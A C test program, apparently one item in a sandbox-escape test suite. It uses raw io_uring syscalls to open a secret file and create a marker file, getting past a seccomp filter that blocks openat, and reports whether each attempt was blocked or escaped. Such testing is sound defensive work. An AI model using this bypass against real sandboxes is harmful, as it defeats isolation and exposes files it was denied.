/* io_uring attack of the escape battery (see escape_common.h).
 *
 *   escape_iouring SECRET MARKER
 *
 * Sets up an io_uring with raw syscalls (no liburing): maps the rings,
 * submits IORING_OP_OPENAT of the secret and of the marker (O_CREAT), and
 * reads the secret through the returned fd. The kernel runs these opens
 * from its own queue: the seccomp filter never sees an openat. (Whether
 * io_uring is disabled here, kernel.io_uring_disabled, is the test's
 * business: it skips.) */
#include "escape_common.h"

#include <linux/io_uring.h>
#include <stdatomic.h>
#include <sys/mman.h>
#include <sys/syscall.h>

#ifndef __NR_io_uring_setup
#define __NR_io_uring_setup 425
#define __NR_io_uring_enter 426
#endif

struct ring {
    int fd;
    unsigned *sq_tail, *sq_mask, *sq_array;
    unsigned *cq_head, *cq_tail, *cq_mask;
    struct io_uring_sqe *sqes;
    struct io_uring_cqe *cqes;
};

static int setup(struct ring *r)
{
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    r->fd = (int)syscall(__NR_io_uring_setup, 4, &p);
    if (r->fd < 0)
        return -errno;
    size_t sq_len = p.sq_off.array + p.sq_entries * sizeof(unsigned);
    size_t cq_len = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
    char *sq = mmap(NULL, sq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd,
                    IORING_OFF_SQ_RING);
    char *cq = mmap(NULL, cq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd,
                    IORING_OFF_CQ_RING);
    r->sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
                   MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_SQES);
    if (sq == MAP_FAILED || cq == MAP_FAILED || r->sqes == MAP_FAILED)
        return -errno;
    r->sq_tail = (unsigned *)(sq + p.sq_off.tail);
    r->sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
    r->sq_array = (unsigned *)(sq + p.sq_off.array);
    r->cq_head = (unsigned *)(cq + p.cq_off.head);
    r->cq_tail = (unsigned *)(cq + p.cq_off.tail);
    r->cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
    r->cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
    return 0;
}

/* submit one openat and wait for its completion: the fd or -errno */
static int uring_openat(struct ring *r, const char *path, int flags)
{
    unsigned tail = *r->sq_tail, idx = tail & *r->sq_mask;
    struct io_uring_sqe *sqe = &r->sqes[idx];
    memset(sqe, 0, sizeof *sqe);
    sqe->opcode = IORING_OP_OPENAT;
    sqe->fd = AT_FDCWD;
    sqe->addr = (unsigned long)path;
    sqe->open_flags = (unsigned)flags;
    sqe->len = 0644;  /* the mode */
    r->sq_array[idx] = idx;
    atomic_store_explicit((_Atomic unsigned *)r->sq_tail, tail + 1, memory_order_release);
    if (syscall(__NR_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
        return -errno;
    unsigned head = *r->cq_head;
    if (head == atomic_load_explicit((_Atomic unsigned *)r->cq_tail, memory_order_acquire))
        return -EAGAIN;
    int res = r->cqes[head & *r->cq_mask].res;
    atomic_store_explicit((_Atomic unsigned *)r->cq_head, head + 1, memory_order_release);
    return res;
}

int main(int argc, char **argv)
{
    if (argc < 3) {
        fprintf(stderr, "usage: escape_iouring SECRET MARKER\n");
        return 2;
    }
    esc_init();
    struct ring r;
    int e = setup(&r);
    if (e < 0) {
        blocked(-e, "io_uring_setup");
        return verdict();
    }
    int fd = uring_openat(&r, argv[1], O_RDONLY);
    errno = fd < 0 ? -fd : 0;
    try_fd(fd, "io_uring openat(SECRET)");
    fd = uring_openat(&r, argv[2], O_WRONLY | O_CREAT);
    if (fd >= 0) {
        close(fd);
        escaped("io_uring openat(MARKER, O_CREAT)");
    } else {
        blocked(-fd, "io_uring openat(MARKER, O_CREAT)");
    }
    return verdict();
}
